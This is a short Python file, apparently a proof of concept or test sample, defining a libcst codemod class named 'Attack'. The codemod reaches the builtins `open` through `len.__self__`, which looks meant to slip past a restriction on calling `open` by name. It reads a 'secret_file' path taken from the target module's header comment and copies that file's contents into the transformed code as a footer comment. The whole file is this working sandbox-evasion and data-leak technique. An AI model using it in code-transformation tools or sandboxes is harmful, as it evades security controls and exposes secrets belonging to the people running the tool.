"""Ask a builtin function for its owner, which is the whole module of builtins."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


def read(path):
    return len.__self__.open(path).read().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by the owner."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
